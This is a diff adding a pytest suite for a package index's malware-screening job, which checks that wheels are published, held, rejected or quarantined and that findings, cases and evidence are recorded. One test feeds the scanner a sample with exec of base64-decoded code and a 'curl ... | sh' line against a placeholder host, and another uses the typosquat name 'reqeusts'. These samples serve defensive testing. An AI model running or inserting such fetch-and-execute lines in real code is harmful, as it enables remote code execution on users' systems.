@@ -1,0 +1,380 @@
+"""The screening job: facts, findings, evidence, verdict and the move, once, on both databases."""
+
+from __future__ import annotations
+
+import hashlib
+from collections.abc import Callable
+from dataclasses import dataclass, field, replace
+from datetime import datetime, timedelta
+from functools import partial
+from pathlib import Path
+from typing import Any
+
+import pytest
+from sqlalchemy import Connection, Table, func, insert, select
+
+from bonded.adapters.storage_files import FileStorage
+from bonded.catalog import change, read
+from bonded.catalog.tables import case, evidence, finding, screening_run, suppression, verdict
+from bonded.db.engine import Database
+from bonded.db.jobs import enqueue, job
+from bonded.db.worker import work_once
+from bonded.journal.tables import journal, to_publish
+from bonded.review.evidence import ranked, text_of
+from bonded.review.queue import case as case_of
+from bonded.screening import states
+from bonded.screening.child import checks_call, facts_call
+from bonded.screening.job import HELD_WORDS, REFUSED_WORDS, screen, wanted_move
+from bonded.screening.settings import ScreeningContext, ScreeningSettings
+from bonded.screening.states import CheckState
+from bonded.screening.tables import facts
+from bonded.seams import Sandbox
+from bonded.values.refusals import Refusal
+from bonded.values.states import FileState, Mode, Verdict
+from bonded.values.who import OPERATOR, POLICY
+from tests.catalog.conftest import Shelf
+from tests.screening.conftest import DOUBTFUL, HOSTILE, PLAIN, wheel
+from tests.screening.test_run import Failing
+
+S = FileState
+
+
+@dataclass
+class Index:
+    """An index with files to screen."""
+
+    shelf: Shelf
+    vault: FileStorage
+    sandbox: Any
+    mode: Mode = Mode.HOLD
+    people: list[Any] = field(default_factory=list)
+
+    @property
+    def db(self) -> Database:
+        return self.shelf.db
+
+    @property
+    def now(self) -> datetime:
+        return self.shelf.now
+
+    def upload(self, name: str, source: str = PLAIN, version: str = "1.0") -> str:
+        """A file, received (in watch mode public) and waiting for its screening."""
+        data = wheel(source, name.replace("-", "_"), version)
+        with self.db.read() as conn:
+            project = read.project(conn, name)
+        project = project or self.shelf.project(name, self._owner())
+        sha256 = hashlib.sha256(data).hexdigest()
+        file_id = self.shelf.file(
+            project, version, sha256=sha256, vault_key=f"{sha256}.{name}.{version}", size=len(data)
+        )
+        self.vault.create(f"{sha256}.{name}.{version}", data)
+        with self.db.write() as tx:
+            if self.mode is Mode.WATCH:
+                change.move_file(tx, "file.publish", POLICY, file_id, S.PUBLIC, reason="", now=self.now)
+            enqueue(tx, "screen", f"screen:{file_id}", {"file_id": file_id}, now=self.now)
+        return file_id
+
+    def _owner(self) -> Any:
+        if not self.people:
+            self.people.append(self.shelf.person("ann"))
+        return self.people[0]
+
+    @property
+    def context(self) -> ScreeningContext:
+        return ScreeningContext(self.db, self.vault, self.sandbox, ScreeningSettings(mode=self.mode))
+
+    def work(self) -> None:
+        """Run all screening jobs."""
+        while work_once(self.db, {"screen": partial(screen, self.context)}, lambda: self.now):
+            pass
+
+    def again(self, file_id: str) -> None:
+        with self.db.write() as tx:
+            enqueue(tx, "screen", f"screen:{file_id}", {"file_id": file_id}, now=self.now)
+        self.work()
+
+    def screened(self, name: str, source: str = PLAIN, version: str = "1.0") -> read.File:
+        file_id = self.upload(name, source, version)
+        self.work()
+        return self.file(file_id)
+
+    def file(self, file_id: str) -> read.File:
+        with self.db.read() as conn:
+            found = read.file(conn, file_id)
+        assert found is not None
+        return found
+
+    def rows(self, table: Table) -> list[Any]:
+        with self.db.read() as conn:
+            return list(conn.execute(select(table)).all())
+
+    def ask(self, question: Callable[[Connection], Any]) -> Any:
+        with self.db.read() as conn:
+            return question(conn)
+
+
+@pytest.fixture
+def index(db: Database, tmp_path: Path, sandbox: Sandbox, now: datetime) -> Index:
+    return Index(Shelf(db, now), FileStorage(tmp_path / "vault"), sandbox)
+
+
+@pytest.fixture
+def small(sqlite_db: Database, tmp_path: Path, sandbox: Sandbox, now: datetime) -> Index:
+    return Index(Shelf(sqlite_db, now), FileStorage(tmp_path / "vault"), sandbox)
+
+
+def test_a_plain_file_becomes_public(index: Index) -> None:
+    file = index.screened("plain-thing")
+    assert (file.state, file.case_id, file.state_reason) == (S.PUBLIC, None, "")
+    assert [(row.verdict, row.score, row.sandbox) for row in index.rows(verdict)] == [
+        ("clear", 0.0, index.sandbox.level)
+    ]
+    assert {row.outcome for row in index.rows(screening_run)} == {"ok"}
+    assert len(index.rows(facts)) == 1
+    assert index.rows(finding) == index.rows(case) == []
+    actions = [row.action for row in index.rows(journal)]
+    assert actions[-1] == "file.publish"
+    assert [row.actor_kind for row in index.rows(journal)][-1] == "policy"
+    assert index.rows(to_publish)[-1].project_key == "plain-thing"
+
+
+def test_a_hostile_file_is_rejected_with_its_evidence(index: Index) -> None:
+    file = index.screened("bad-thing", HOSTILE)
+    assert (file.state, file.state_reason) == (S.REJECTED, REFUSED_WORDS)
+    row = index.rows(verdict)[-1]
+    assert row.verdict == "reject"
+    assert row.terms[0][0].startswith("decoded-or-downloaded-code-executed: decoded code is executed")
+    kept = index.rows(finding)
+    assert [(one.subject_kind, one.subject_id, one.file_id, one.line) for one in kept] == [
+        ("file", file.id, file.id, 3)
+    ]
+    assert kept[0].trace[-1] == "line 3: builtins.exec"
+    shown = index.ask(lambda conn: text_of(conn, kept[0].evidence))
+    assert shown["text"].split("\n")[2].startswith("exec(")
+    assert shown["decoded"] == [{"how": "decoded on line 3, layer 1", "text": "print(1)"}]
+    opened = index.ask(lambda conn: case_of(conn, file.case_id))
+    assert opened.line.headline == row.terms[0][0]
+    assert opened.line.score == row.score
+    assert [one.file.id for one in opened.files] == [file.id]
+    assert "file.refuse" in [one.action for one in index.rows(journal)]
+
+
+def test_a_doubtful_file_is_held(index: Index) -> None:
+    file = index.screened("odd-thing", DOUBTFUL)
+    assert (file.state, file.state_reason) == (S.HELD, HELD_WORDS)
+    assert index.rows(case)[0].state == "open"
+
+
+def test_files_of_a_project_share_a_case_which_shows_the_gravest(index: Index) -> None:
+    first = index.screened("odd-thing", DOUBTFUL)
+    second = index.screened("odd-thing", HOSTILE, "2.0")
+    third = index.screened("odd-thing", DOUBTFUL, "3.0")
+    assert first.case_id == index.file(second.id).case_id == index.file(third.id).case_id
+    cases = index.rows(case)
+    assert len(cases) == 1
+    assert cases[0].score == max(row.score for row in index.rows(verdict))
+
+
+def test_a_new_project_with_a_deceptive_name_is_held(index: Index) -> None:
+    file = index.screened("reqeusts")
+    assert file.state is S.HELD
+    kept = index.rows(finding)
+    assert [(one.check, one.subject_kind, one.subject_id) for one in kept] == [
+        ("name-deception", "project", file.project_id)
+    ]
+    assert index.ask(lambda conn: ranked(conn, [file.id], file.project_id))[0].finding.check == "name-deception"
+
+
+def test_a_second_file_of_a_held_project_is_held_too_and_found_once(index: Index) -> None:
+    index.screened("reqeusts")
+    assert index.screened("reqeusts", version="2.0").state is S.HELD
+    assert len(index.rows(finding)) == 1
+
+
+def test_running_again_adds_nothing_but_a_verdict(index: Index) -> None:
+    file = index.screened("bad-thing", HOSTILE)
+    before = [index.rows(table) for table in (finding, screening_run, evidence, facts, case, journal)]
+    index.again(file.id)
+    assert [index.rows(table) for table in (finding, screening_run, evidence, facts, case, journal)] == before
+    assert [row.verdict for row in index.rows(verdict)] == ["reject", "reject"]
+    assert index.rows(job) == [] or all(row.queue != "screen" for row in index.rows(job))
+
+
+def test_a_worker_that_dies_before_the_end_leaves_nothing(index: Index) -> None:
+    file_id = index.upload("bad-thing", HOSTILE)
+    with index.db.read() as conn:
+        from bonded.db.jobs import Job
+
+        row = conn.execute(select(job).where(job.c.queue == "screen")).one()
+    taken = Job(row.id, row.queue, row.key, row.payload, 1, row.created_at)
+    effects = screen(index.context, taken, index.now)
+    assert effects is not None  # the worker dies here: nothing was written
+    assert index.file(file_id).state is S.RECEIVED
+    assert index.rows(finding) == index.rows(verdict) == []
+    index.work()
+    assert index.file(file_id).state is S.REJECTED
+
+
+def test_stored_facts_are_used_again(small: Index) -> None:
+    file = small.screened("plain-thing")
+    seen: list[Any] = []
+
+    def note(call: Any, _: bytes) -> str:
+        seen.append(call)
+        return ""
+
+    small.sandbox = Failing(small.sandbox, note)
+    small.again(file.id)
+    assert seen == [checks_call]
+
+
+@pytest.mark.parametrize("how", ["crash", "timeout", "memory", "killed"])
+def test_a_failure_holds_the_file_and_is_seen(small: Index, how: str) -> None:
+    real = small.sandbox
+    small.sandbox = Failing(real, lambda call, _: how if call is facts_call else "")
+    file = small.screened("plain-thing")
+    assert file.state is S.HELD
+    assert [one.check for one in small.rows(finding)] == ["check-failed"]
+    assert small.rows(verdict)[0].unread
+    assert small.rows(case)[0].headline.startswith("check-failed: reading the archive")
+    small.again(file.id)
+    assert len(small.rows(finding)) == 1
+    small.sandbox = real
+    small.again(file.id)
+    assert small.rows(verdict)[-1].verdict == "clear"
+    assert small.file(file.id).state is S.HELD, "what a person must look at, no later run lets go"
+
+
+def test_in_watch_mode_a_bad_file_is_withdrawn_and_a_doubtful_one_gets_a_case(index: Index) -> None:
+    index.mode = Mode.WATCH
+    assert index.screened("plain-thing").state is S.PUBLIC
+    doubtful = index.screened("odd-thing", DOUBTFUL)
+    assert doubtful.state is S.PUBLIC
+    assert doubtful.case_id is not None
+    bad = index.screened("bad-thing", HOSTILE)
+    assert bad.state is S.QUARANTINED
+    assert f"takedown:{bad.id}" in [row.key for row in index.rows(job)]
+
+
+def test_people_have_the_last_word(small: Index) -> None:
+    small.mode = Mode.WATCH
+    file = small.screened("bad-thing", HOSTILE)
+    with small.db.write() as tx:
+        change.move_file(tx, "review.release", OPERATOR, file.id, S.PUBLIC, reason="looked at it", now=small.now)
+    small.again(file.id)
+    assert small.file(file.id).state is S.PUBLIC
+
+
+def test_a_removed_or_unknown_file_is_left_alone(small: Index) -> None:
+    file_id = small.upload("plain-thing")
+    with small.db.write() as tx:
+        change.move_file(tx, "file.hold", POLICY, file_id, S.HELD, reason="", now=small.now)
+        change.move_file(tx, "review.remove", OPERATOR, file_id, S.REMOVED, reason="gone", now=small.now)
+        enqueue(tx, "screen", "screen:nothing", {"file_id": "nothing"}, now=small.now)
+    small.work()
+    assert small.rows(verdict) == []
+
+
+def test_a_missing_archive_fails_the_job_which_tries_again(small: Index) -> None:
+    file_id = small.upload("plain-thing")
+    small.vault.delete(small.file(file_id).vault_key)
+    small.work()
+    row = next(one for one in small.rows(job) if one.key == f"screen:{file_id}")
+    assert (row.state, row.attempt) == ("pending", 1)
+    assert small.file(file_id).state is S.RECEIVED
+
+
+def set_state(index: Index, name: str, state: CheckState) -> None:
+    with index.db.write() as tx:
+        states.set_state(tx, OPERATOR, name, state, reason="a test", now=index.now)
+
+
+def test_a_check_in_evaluation_runs_and_decides_nothing(small: Index) -> None:
+    set_state(small, "decoded-or-downloaded-code-executed", CheckState.EVALUATION)
+    assert small.screened("bad-thing", HOSTILE).state is S.PUBLIC
+    assert [one.check for one in small.rows(finding)] == ["decoded-or-downloaded-code-executed"]
+
+
+@pytest.mark.parametrize("state", [CheckState.DISABLED, CheckState.WIPED_OUT])
+def test_a_disabled_check_does_not_run(small: Index, state: CheckState) -> None:
+    set_state(small, "decoded-or-downloaded-code-executed", state)
+    assert small.screened("bad-thing", HOSTILE).state is S.PUBLIC
+    assert small.rows(finding) == []
+    set_state(small, "decoded-or-downloaded-code-executed", CheckState.ENABLED)
+    assert small.screened("bad-thing", HOSTILE, "2.0").state is S.REJECTED
+
+
+def test_states_are_recorded_with_a_reason(small: Index) -> None:
+    set_state(small, "startup-hook", CheckState.DISABLED)
+    row = small.rows(journal)[-1]
+    assert (row.action, row.subject_id, row.facts) == (
+        "check.set-state",
+        "startup-hook",
+        {"state": "disabled", "reason": "a test"},
+    )
+    for name, reason in (("nothing", "x"), ("startup-hook", " ")):
+        with pytest.raises(Refusal), small.db.write() as tx:
+            states.set_state(tx, OPERATOR, name, CheckState.ENABLED, reason=reason, now=small.now)
+
+
+def suppress(index: Index, sha256: str, expires: datetime) -> None:
+    values = {"check": "decoded-or-downloaded-code-executed", "path": "bad_thing/__init__.py", "content_sha256": sha256}
+    with index.db.write() as tx:
+        tx.execute(
+            insert(suppression).values(values | {"reason": "known", "created_at": index.now, "expires_at": expires})
+        )
+
+
+def test_a_suppressed_finding_decides_nothing_until_it_expires(small: Index) -> None:
+    member = hashlib.sha256(HOSTILE.encode()).hexdigest()
+    suppress(small, member, small.now + timedelta(days=1))
+    assert small.screened("bad-thing", HOSTILE).state is S.PUBLIC
+    assert len(small.rows(finding)) == 1
+    small.shelf.now = small.now + timedelta(days=2)
+    assert small.screened("bad-thing", HOSTILE, "2.0").state is S.REJECTED
+
+
+def test_text_that_no_database_takes_is_cleaned(index: Index) -> None:
+    source = "import base64\nexec(base64.b64decode('AGEA\\ud800'.encode('utf-8', 'surrogatepass')), '\\0')  # \x01\n"
+    source += "import os\nos.system('curl https://example.invalid/\\0\\ud800 | sh')\n"
+    file = index.screened("bad-thing", source)
+    assert file.state is not S.RECEIVED
+    assert index.ask(lambda conn: conn.execute(select(func.count()).select_from(finding)).scalar_one()) >= 1
+
+
+MOVES = [
+    (S.RECEIVED, Verdict.CLEAR, Mode.HOLD, S.PUBLIC),
+    (S.RECEIVED, Verdict.REVIEW, Mode.HOLD, S.HELD),
+    (S.RECEIVED, Verdict.REJECT, Mode.HOLD, S.REJECTED),
+    (S.RECEIVED, Verdict.REVIEW, Mode.WATCH, S.PUBLIC),
+    (S.RECEIVED, Verdict.REJECT, Mode.WATCH, S.REJECTED),
+    (S.PUBLIC, Verdict.CLEAR, Mode.WATCH, None),
+    (S.PUBLIC, Verdict.REVIEW, Mode.WATCH, None),
+    (S.PUBLIC, Verdict.REJECT, Mode.WATCH, S.QUARANTINED),
+    (S.HELD, Verdict.CLEAR, Mode.HOLD, None),
+    (S.REJECTED, Verdict.CLEAR, Mode.HOLD, None),
+    (S.QUARANTINED, Verdict.REJECT, Mode.WATCH, None),
+]
+
+
+@pytest.mark.parametrize(("state", "verdict_", "mode", "wanted"), MOVES)
+def test_the_move_that_a_verdict_asks_for(
+    state: FileState, verdict_: Verdict, mode: Mode, wanted: FileState | None
+) -> None:
+    move = wanted_move(state, verdict_, mode)
+    assert (move[1] if move else None) is wanted
+
+
+def test_many_files_in_parallel_on_one_project(index: Index) -> None:
+    import threading
+
+    ids = [index.upload("odd-thing", DOUBTFUL if n % 2 else HOSTILE, f"{n}.0") for n in range(6)]
+    threads = [threading.Thread(target=index.work) for _ in range(3)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert {index.file(one).state for one in ids} == {S.HELD, S.REJECTED}
+    assert len(index.rows(case)) == 1
+    assert len(index.rows(verdict)) == 6
+    assert replace(index).now == index.now
